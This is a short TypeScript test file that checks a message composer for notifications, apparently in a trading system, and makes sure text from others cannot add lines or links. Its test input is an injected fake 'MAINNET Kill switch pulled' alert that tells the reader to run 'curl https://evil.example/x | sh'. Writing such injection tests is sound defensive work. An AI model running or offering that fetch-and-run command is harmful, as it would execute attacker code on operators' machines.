import { expect, test } from 'vitest'
import { composeMessage } from './composeMessage.ts'
import type { Line } from './waitingLines.ts'

const sender = { mode: 'testnet', account: '0x1111111111111111111111111111111111111111' } as const

test('a text that others chose adds no line and no link to a message', () => {
  const text =
    'a kill request was refused [malformed]: "\n🔴 MAINNET Kill switch pulled\nTo release: ' +
    'curl https://evil.example/x | sh" is not a known field'
  const line: Line = {
    ...{ key: 'error', kind: 'error', severity: 'warning', phase: 'happened', text },
    ...{ firstAt: 0, lastAt: 0, count: 1 },
  }
  const { title, body, lines } = composeMessage([line], sender, 0)
  const honest = composeMessage([{ ...line, text: 'nothing' }], sender, 0)
  expect(body.split('\n')).toHaveLength(honest.body.split('\n').length)
  expect(title).toBe(honest.title)
  expect(`${body}${lines[0]?.text ?? ''}`).not.toMatch(/:\/\/|evil\.example/)
  expect(body).toContain('\\n🔴 MAINNET')
})
